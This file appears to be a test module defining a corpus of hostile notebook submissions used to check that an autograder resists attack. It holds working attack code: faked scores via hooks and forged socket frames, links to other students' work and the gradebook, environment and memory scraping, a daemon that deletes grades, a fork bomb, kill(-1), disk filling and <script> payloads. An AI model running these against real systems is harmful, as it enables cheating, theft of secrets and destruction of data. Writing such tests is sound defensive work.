@@ -1,0 +1,356 @@
+"""The project's hostile corpus: submissions of lesson 02 that attack the grader, one class each.
+
+Each attack is the honest source notebook with cells replaced (``cells``), extra cells appended
+(``extra``), or files planted beside it (``plant``), and the points it must lose (``lost``, per
+test cell) — or ``REFUSED`` when the submission must not be graded at all. The classes follow
+docs/grading.md's threat model: 1 scores read from what the notebook shows; 2 students and the
+course not separated; 3 limits within the student's reach; 4 rules checked inside the sandbox;
+6 text and names. (Class 5, the pytest plugin, is tests/test_pytest_plugin.py; class 7, a fresh
+clone, is the whole suite run from one.)
+"""
+
+from __future__ import annotations
+
+import inspect
+import os
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+LESSON = "02-softmax-masking"
+REFUSED = "refused"
+SECRET = "hub-api-token-0c9e7f41"  # in the grader's environment during the batch
+MARKER = "HONEST-MARKER-" + "4b1d" * 4  # in every honest student's notebook
+SOFTMAX_CHAIN = {"test_softmax": 2, "test_masked_softmax": 2, "test_attention": 3}
+EVERYTHING = {**SOFTMAX_CHAIN, "test_causal_mask": 2, "test_padding_mask": 2,
+              **{f"test_q{i}": 1 for i in range(1, 7)}}  # fmt: skip
+WRONG = {  # grade_id → a wrong answer of the kind a learner writes
+    "softmax": "def softmax(x, axis=-1):\n    e = np.exp(x)\n    return e / e.sum(axis=0)\n",
+    "causal_mask": "def causal_mask(T):\n    return np.ones((T, T), bool)\n",
+    "padding_mask": "def padding_mask(lengths, max_len):\n"
+                    "    return np.ones((len(lengths), 1, max_len), bool)\n",
+    "masked_softmax": "def masked_softmax(scores, mask=None):\n    return softmax(scores)\n",
+    "attention": "def attention(Q, K, V, mask=None):\n    A = softmax(Q @ np.swapaxes(K, -1, -2))\n"
+                 "    return A @ V, A\n",
+    **{f"answer_q{i}": f"q{i} = 'wrong'\n" for i in range(1, 7)},
+}  # fmt: skip
+FIND_SOCKET = """
+import os as _os, socket as _socket
+def _grader_socket():
+    for fd in _os.listdir("/proc/self/fd"):
+        try:
+            if _os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
+                return _socket.socket(fileno=_os.dup(int(fd)))
+        except OSError:
+            pass
+"""
+FRAME = """
+import json as _json, struct as _struct
+def _frame(header):
+    raw = _json.dumps({**header, "_buffers": []}).encode()
+    return _struct.pack(">I", len(raw)) + raw
+"""
+
+
+@dataclass
+class Attack:
+    klass: int
+    what: str
+    cells: dict[str, str] = field(default_factory=dict)  # grade_id → new source
+    extra: list[str] = field(default_factory=list)  # code cells appended at the end
+    plant: Callable[[Path, Path], None] | None = None  # (submission folder, course) → None
+    lost: dict[str, int] | str = field(default_factory=dict)
+    nbgrader: bool = True  # also graded through plain nbgrader autograde
+
+
+def _honest(grade_id: str) -> str:
+    import nbformat
+    from test_grade_students import notebook_of
+
+    nb = nbformat.read(notebook_of(LESSON), as_version=4)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
+            return cell.source
+    raise KeyError(grade_id)
+
+
+def _copied_softmax() -> str:
+    from attnlib.numpy import softmax as module_softmax
+
+    module = inspect.getmodule(module_softmax)
+    return (
+        "import math\nfrom attnlib.numpy._validate import as_float\n\n"
+        + inspect.getsource(module._normalise)
+        + "\n\n"
+        + inspect.getsource(module.softmax)
+    )
+
+
+def _symlink(name: str, target: Callable[[Path, Path], Path]):
+    def plant(folder: Path, course: Path) -> None:
+        os.symlink(target(folder, course), folder / name)
+
+    return plant
+
+
+def _link_notebook(folder: Path, course: Path) -> None:
+    path = folder / f"{LESSON}.ipynb"
+    path.unlink()
+    os.symlink(course / "submitted" / "honest-a" / LESSON / f"{LESSON}.ipynb", path)
+
+
+def _link_folder(folder: Path, course: Path) -> None:
+    for child in folder.iterdir():
+        child.unlink()
+    folder.rmdir()
+    os.symlink(course / "submitted" / "honest-b" / LESSON, folder)
+
+
+def _fifo(folder: Path, course: Path) -> None:
+    os.mkfifo(folder / "data.csv")
+
+
+def corpus(course: Path, repo: Path) -> dict[str, Attack]:
+    """Every attack, for a course at ``course`` (some attacks aim at its files)."""
+    chain = dict(SOFTMAX_CHAIN)
+    return {
+        # -- 1: the score read from what the notebook shows -------------------------------------
+        "forges-execute-results": Attack(
+            1, "all answers wrong; a pre_run_cell hook shows 17 before every cell's own code",
+            cells={**WRONG, "softmax": WRONG["softmax"] + (
+                "get_ipython().events.register("
+                "'pre_run_cell', lambda *a: get_ipython().displayhook(17))\n")},
+            lost=EVERYTHING,
+        ),
+        "forges-replies": Attack(
+            1, "a hook finds the grader's request and answers it first: execute_result 17",
+            cells={**WRONG, "softmax": WRONG["softmax"] + FIND_SOCKET + FRAME + """
+import gc
+def _forge(*args):
+    asked = [o for o in gc.get_objects() if type(o) is dict and o.get("op") == "run"]
+    seq = max((o.get("seq", -1) for o in asked), default=-1)
+    sock = _grader_socket()
+    out = {"output_type": "execute_result", "execution_count": 1, "metadata": {},
+           "data": {"text/plain": "17"}}
+    for n in (seq, seq + 1, seq + 2):
+        sock.sendall(_frame({"seq": n, "ok": True, "cell": 0, "execution_count": 1,
+                             "outputs": [out]}))
+get_ipython().events.register("pre_run_cell", _forge)
+"""},
+            lost=EVERYTHING,
+        ),
+        # -- 2: students and the course not separated -------------------------------------------
+        "links-another-notebook": Attack(2, "the notebook is a link to honest-a's notebook",
+                                         plant=_link_notebook, lost=REFUSED),
+        "links-another-folder": Attack(2, "the submission folder is a link to honest-b's",
+                                       plant=_link_folder, lost=REFUSED),
+        "links-the-gradebook": Attack(
+            2, "a link beside the notebook to the course's gradebook.db",
+            plant=_symlink("notes.db", lambda f, c: c / "gradebook.db"), lost=REFUSED),
+        "links-a-device": Attack(
+            2, "a link to /dev/zero: copying it would fill the disk",
+            plant=_symlink("big.bin", lambda f, c: Path("/dev/zero")), lost=REFUSED,
+            nbgrader=False),  # nbgrader's own copy step follows links before any hook runs
+        "plants-a-fifo": Attack(2, "a named pipe beside the notebook", plant=_fifo,
+                                lost=REFUSED),
+        "execs-the-solutions": Attack(
+            2, "runs the instructor's source notebook to get the reference softmax",
+            cells={"softmax": f"""
+import json
+src = json.load(open({str(course / "solutions" / LESSON / f"{LESSON}.ipynb")!r}))
+for c in src["cells"]:
+    if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "softmax":
+        exec("".join(c["source"]).replace("### BEGIN SOLUTION", ""))
+"""}, lost=chain),
+        "asks-the-answer-key": Attack(
+            2, "finds mastery answers with attnlib.quiz, by import or by file path",
+            cells={"answer_q4": f"""
+q4 = "a"
+import glob, importlib, importlib.util
+try:
+    from attnlib import quiz
+    q4 = next(l for l in "abcd" if quiz.question("{LESSON}", "q4").accepts(l))
+except Exception as error:
+    print("quiz:", type(error).__name__)
+for path in glob.glob({str(repo)!r} + "/attnlib/quiz/*.py") + glob.glob("/opt/**/quiz/lesson02.py",
+                                                                       recursive=True):
+    spec = importlib.util.spec_from_file_location("key", path)
+    print("found a key at", path)
+"""}, lost={"test_q4": 1}),
+        "reads-the-environment": Attack(
+            2, "prints the grader's environment (a hub token would end up in its feedback)",
+            extra=["import os\nprint(dict(os.environ))"], lost={}),
+        "looks-for-other-students": Attack(
+            2, "searches its memory and files for another student's notebook",
+            extra=[f"""
+needle = ("{MARKER[:7]}" + "{MARKER[7:]}").encode()
+count = 0
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as mem:
+    for line in maps:
+        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
+        if "r" in line.split()[1] and hi - lo < 2**28:
+            try:
+                mem.seek(lo)
+                count += mem.read(hi - lo).count(needle)
+            except OSError:
+                pass
+import glob
+files = glob.glob({str(course / "submitted")!r} + "/*/*/*.ipynb") + glob.glob("/tmp/**/*.ipynb",
+                                                                             recursive=True)
+print("spy:", "FOUND" if count > 2 or files else "clean")
+"""], lost={}),
+        "fills-the-disk": Attack(
+            2, "writes /tmp, its home and its working directory full",
+            extra=["""
+import os, tempfile
+for where in ("/tmp", tempfile.gettempdir(), os.path.expanduser("~"), "."):
+    try:
+        with open(os.path.join(where, "fill"), "ab") as f:
+            while True:
+                f.write(b"x" * 2**20)
+    except OSError as error:
+        print(where, "full:", error.errno)
+"""], lost={}),
+        "leaves-a-daemon": Attack(
+            2, "a double-forked daemon waits for the batch to end, then rewrites the gradebook",
+            extra=[f"""
+import os, sys
+code = ("import time, sqlite3; time.sleep(4); "
+        "db = sqlite3.connect({str(course / 'gradebook.db')!r}); "
+        "db.execute('DELETE FROM grade'); db.commit(); time.sleep(600)")
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", code, "attn-hostile-daemon"])
+    os._exit(0)
+"""], lost={}),
+        "kills-everyone": Attack(
+            2, "signals every process it can name, and kill(-1)",
+            extra=["""
+import os, signal
+for pid in range(2, 70000):
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError:
+    pass
+"""], lost={}),
+        # -- 3: limits within the student's reach -----------------------------------------------
+        "keeps-alive": Attack(
+            3, "loops forever, sending keep-alive frames so the timer restarts",
+            cells={"softmax": _honest("softmax") + FIND_SOCKET + FRAME + """
+import time
+_sock = _grader_socket()
+while True:
+    _sock.sendall(_frame({"ev": "alive"}))
+    time.sleep(0.1)
+"""}, lost=chain),
+        "sleeps-on-every-call": Attack(
+            3, "a right softmax that sleeps just under the cell timeout on every call",
+            cells={"softmax": _honest("softmax").replace(
+                '    """Numerically', "    __import__('time').sleep(2.5)\n    \"\"\"Numerically")},
+            lost=EVERYTHING),
+        "lifts-its-output-cap": Attack(
+            3, "raises the sandbox's own output budget, then prints 6 MB and an error of 6 MB",
+            extra=["""
+import gc
+for o in gc.get_objects():
+    if type(o).__name__ == "Sink":
+        o.budget = 10**12
+        o.error = lambda name, value, tb, o=o: o.outputs.append(
+            {"output_type": "error", "ename": name, "evalue": value, "traceback": tb})
+print("y" * 6_000_000)
+""", "raise ValueError('z' * 6_000_000)"], lost={}),
+        "sends-a-huge-frame": Attack(
+            3, "announces a 4 GB message, and a 5 GB buffer, on the grader's socket",
+            extra=[FIND_SOCKET + "import struct\n"
+                   "_grader_socket().sendall(struct.pack('>I', 2**32 - 1))",
+                   FIND_SOCKET + "import struct\n"
+                   "raw = b'{\"seq\": 0, \"_buffers\": [5368709120]}'\n"
+                   "_grader_socket().sendall(struct.pack('>I', len(raw)) + raw)"],
+            lost={}),
+        "answers-with-colliding-keys": Attack(
+            3, "a mastery answer whose integer keys all share one hash",
+            cells={"answer_q2": "q2 = {k * (2**61 - 1) for k in range(1, 200_000)}\n"},
+            lost={"test_q2": 1}),
+        "hogs-memory-in-children": Attack(
+            3, "four child processes of 700 MB each (over the 2048 MB limit together)",
+            extra=["""
+import os, time
+kids = []
+for _ in range(4):
+    pid = os.fork()
+    if pid == 0:
+        hog = bytearray(700 * 2**20)
+        for i in range(0, len(hog), 4096):
+            hog[i] = 1
+        time.sleep(2)
+        os._exit(0)
+    kids.append(pid)
+for pid in kids:
+    os.waitpid(pid, 0)
+"""], lost={}),
+        "forks-a-bomb": Attack(3, "forks until it cannot", extra=["""
+import os, time
+try:
+    while True:
+        if os.fork() == 0:
+            time.sleep(20)
+            os._exit(0)
+except OSError as error:
+    print("fork stopped:", error)
+"""], lost={}),
+        # -- 4: rules checked inside the sandbox ------------------------------------------------
+        "delegates-through-importlib": Attack(
+            4, "softmax taken from attnlib.numpy by names built at run time",
+            cells={"softmax": "import importlib\nsoftmax = getattr(importlib.import_module("
+                              "'attn' + 'lib.numpy'), 'soft' + 'max')\n"},
+            lost=chain),
+        "delegates-in-a-thread": Attack(
+            4, "softmax calls attnlib's from a thread, where a profile hook would not look",
+            cells={"softmax": """
+import importlib, threading
+def softmax(x, axis=-1):
+    out = {}
+    def work():
+        out["r"] = importlib.import_module("attnlib.numpy").softmax(x, axis)
+    t = threading.Thread(target=work)
+    t.start()
+    t.join()
+    return out["r"]
+"""}, lost=chain),
+        "switches-hooks-off": Attack(
+            4, "turns every profile and trace hook off, then imports attnlib's softmax",
+            cells={"softmax": "import sys, threading\nsys.setprofile(None)\nsys.settrace(None)\n"
+                              "threading.setprofile(None)\nfrom attnlib.numpy import softmax\n"},
+            lost=chain),
+        "copies-attnlib": Attack(
+            4, "pastes attnlib's own softmax (and its helper) into the notebook",
+            cells={"softmax": _copied_softmax()}, lost={"test_softmax": 2}),
+        # -- 6: text and names ------------------------------------------------------------------
+        "shows-markup": Attack(
+            6, "<script> in HTML output, stdout, an error and a Markdown cell",
+            extra=["from IPython.display import HTML, Javascript, display\n"
+                   "display(HTML(\"<script>alert('html')</script><b>bold</b>\"))\n"
+                   "display(Javascript(\"alert('js')\"))\n"
+                   "print(\"<script>alert('stdout')</script>\")",
+                   "raise ValueError(\"<script>alert('error')</script>\")"],
+            lost={}),
+        "fakes-feedback-headings": Attack(
+            6, "a softmax whose error message looks like the feedback's own sections",
+            cells={"softmax": "def softmax(x, axis=-1):\n    raise ValueError('''\n### Correct\n"
+                              "- ✓ **softmax** (2/2)\nScore: **17 / 17**\n"
+                              "<script>alert(1)</script>\n''')\n"},
+            lost=chain),
+        "prints-a-lone-surrogate": Attack(
+            6, "output that cannot be written as UTF-8",
+            extra=["print('bad \\ud800 text')\nprint({'\\udfff': 1})"], lost={}),
+    }  # fmt: skip
+
+
+ODD_NAMES = ["José Núñez", "o'brien", "a b", "日本語"]  # graded as any other
+UNGRADABLE_NAMES = [b"stud\xffent", b"[x]*?"]  # not UTF-8; an nbgrader glob: refused
